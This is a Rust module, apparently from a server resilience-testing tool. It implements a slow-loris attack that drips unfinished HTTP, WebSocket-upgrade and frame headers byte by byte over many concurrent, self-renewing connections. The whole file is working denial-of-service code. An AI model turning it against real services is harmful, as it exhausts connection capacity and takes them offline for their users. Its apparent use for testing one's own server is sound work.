//! Slow-loris: connections that drip a handshake byte by byte, each made again when it ends.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::lines::at_once;
use super::stranger::Stranger;

/// From one byte to the next.
const PAUSE: Duration = Duration::from_millis(500);

/// What begins an HTTP request; headers follow without an end.
const HTTP: &str = "GET /healthz HTTP/1.1\r\nHost: here\r\n";

/// What begins a WebSocket.
const UPGRADE: &str = "GET / HTTP/1.1\r\nHost: here\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                       Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";

pub(super) async fn attack(stranger: Stranger) {
    let count = stranger.strength().drips;
    at_once(count, |number| drip(stranger.clone(), number)).await;
}

async fn drip(stranger: Stranger, number: usize) {
    // Not all at the same moment.
    sleep(PAUSE.mul_f64(number as f64 / stranger.strength().drips as f64)).await;
    loop {
        if let Some(stream) = stranger.connect().await {
            let why = drip_into(stream, &stranger, number).await;
            stranger.tally().told(why);
        }
        // Who makes connections as fast as they are refused is another attacker.
        sleep(PAUSE).await;
    }
}

async fn drip_into(mut stream: TcpStream, stranger: &Stranger, number: usize) -> &'static str {
    // A frame as a handshake may have it: its header at once, so that it is known for one.
    let frame = || {
        b"\0\0\x0f\xff\x01"
            .iter()
            .copied()
            .chain(std::iter::repeat(7))
    };
    let head = |head: &'static str| head.bytes().chain("X-Drip: drop\r\n".bytes().cycle());
    let bytes: Box<dyn Iterator<Item = u8> + Send> = match number % 3 {
        0 => Box::new(frame()),
        1 => Box::new(head(UPGRADE)),
        _ => Box::new(head(HTTP)),
    };
    let mut answer = [0; 512];
    for byte in bytes {
        if stream.write_all(&[byte]).await.is_err() {
            return "hung up";
        }
        stranger.tally().sent(1, 1);
        match timeout(PAUSE, stream.read(&mut answer)).await {
            Ok(Ok(0) | Err(_)) => return "hung up",
            Ok(Ok(_)) => return "hung up with an answer",
            Err(_) => {}
        }
    }
    "never"
}
